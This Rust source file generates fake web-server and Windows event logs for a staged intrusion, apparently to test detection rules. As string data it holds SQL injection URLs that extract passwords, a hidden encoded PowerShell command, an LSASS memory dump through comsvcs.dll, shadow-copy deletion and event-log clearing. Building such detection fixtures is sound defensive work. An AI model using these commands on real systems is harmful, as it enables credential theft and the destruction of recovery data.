//! Somebody breaks in: the portal is probed, a web shell put there, a password taken out of memory, the domain server
//! reached, the way back to health destroyed. Every line is one that such a tool leaves; which alerts come of it, our rules
//! say.

use jiff::{SignedDuration, Timestamp};

use super::{
    day::Said,
    lines::{Moment, access, beat, plus, windows},
    voices::{Shipper, Voice},
};

/// The address it comes from: of those that belong to nobody.
const FROM: &str = "203.0.113.77";
const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36";
const SHELL: &str = "/uploads/2026/anh-bia.aspx";
const PROBED: [&str; 8] =
    ["admin", "backup", "old", "phpmyadmin", "wp-admin", "manager/html", "api/v1/users", "test"];
/// How long it takes.
pub const LENGTH: SignedDuration = SignedDuration::from_mins(11);

/// What is said of it in the seconds from `from` on and before `to`, if it begins at `begins`.
pub fn between(voices: &[Voice], begins: Timestamp, from: Timestamp, to: Timestamp) -> Vec<Said> {
    let Some((portal, domain)) = scene(voices) else { return Vec::new() };
    let mut all = Vec::new();
    let mut add = |voice: usize, second: i64, make: &dyn Fn(&Voice, &Moment) -> String| {
        let at = plus(begins, second);
        if let Some(of) = voices.get(voice).filter(|_| (from..to).contains(&at)) {
            let line = make(of, &Moment { at, number: second.unsigned_abs() });
            all.push(Said { voice, at, line });
        }
    };
    // Every half a second something that is not there.
    for n in 0..90_i64 {
        let what = usize::try_from(n).ok().and_then(|n| PROBED.get(n % PROBED.len())).unwrap_or(&"a");
        let path = format!("/{what}/{n}");
        add(portal, 20 + n / 2, &|_, m| beat(m, &access(m, FROM, "GET", &path, 404, 196, BROWSER)));
    }
    for (second, method, path, size) in [
        (90, "GET", "/tin-tuc?id=7+union+all+select+1,2,user(),4--+-", 8_211),
        (104, "GET", "/tin-tuc?id=7+union+all+select+1,ten,mat_khau,4+from+nguoi_dung--+-", 15_902),
        (140, "POST", "/quan-tri/thu-vien/tai-len", 512),
        (152, "POST", SHELL, 64),
        (158, "POST", SHELL, 871),
    ] {
        add(portal, second, &|_, m| beat(m, &access(m, FROM, method, path, 200, size, BROWSER)));
    }
    let worker = r"C:\Windows\System32\inetsrv\w3wp.exe";
    let cmd = r"C:\Windows\System32\cmd.exe";
    let shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let encoded = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    let dump = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\hs.dmp full";
    let dumper = r"C:\Windows\System32\rundll32.exe";
    let vss = r"C:\Windows\System32\vssadmin.exe";
    // Program, command line, parent, machine.
    for (second, image, line, parent, server) in [
        (170, cmd, "cmd.exe /c whoami /all", worker, "WEB01"),
        (181, cmd, "cmd.exe /c net group \"Domain Admins\" /domain", worker, "WEB01"),
        (230, shell, encoded, cmd, "WEB01"),
        (300, dumper, dump, shell, "WEB01"),
        (470, vss, "vssadmin.exe delete shadows /all /quiet", cmd, "DC01"),
    ] {
        add(domain, second, &|of, m| started(of, m, (image, line, parent), server));
    }
    add(domain, 380, &|of, m| {
        let file = r"%SystemRoot%\PSEXESVC.exe";
        let data = [("ServiceName", "PSEXESVC"), ("ImagePath", file), ("AccountName", "LocalSystem")];
        windows(of, m, "DC01", ("System", "Service Control Manager", 7045), &data)
    });
    add(domain, 430, &|of, m| {
        let log = "Microsoft-Windows-Windows Defender/Operational";
        windows(of, m, "DC01", (log, "Microsoft-Windows-Windows Defender", 5001), &[])
    });
    add(domain, 600, &|of, m| {
        let data = [("SubjectUserName", "quantri"), ("SubjectDomainName", of.short.as_str())];
        windows(of, m, "DC01", ("Security", "Microsoft-Windows-Eventlog", 1102), &data)
    });
    all.sort_by_key(|said| said.at);
    all
}

/// The portal and the domain server of the first body that has both.
fn scene(voices: &[Voice]) -> Option<(usize, usize)> {
    voices.iter().enumerate().filter(|(_, v)| v.shipper == Shipper::NginxBeat).find_map(|(portal, web)| {
        let same = |v: &&Voice| v.place == web.place && v.shipper == Shipper::Domain;
        let domain = voices.iter().position(|v| same(&v))?;
        Some((portal, domain))
    })
}

/// A program starts, as Sysmon tells it.
fn started(of: &Voice, at: &Moment, (image, line, parent): (&str, &str, &str), server: &str) -> String {
    let user = format!(r"{}\svc-web", of.short);
    let data = [("Image", image), ("CommandLine", line), ("ParentImage", parent), ("User", user.as_str())];
    let log = "Microsoft-Windows-Sysmon/Operational";
    windows(of, at, server, (log, "Microsoft-Windows-Sysmon", 1), &data)
}
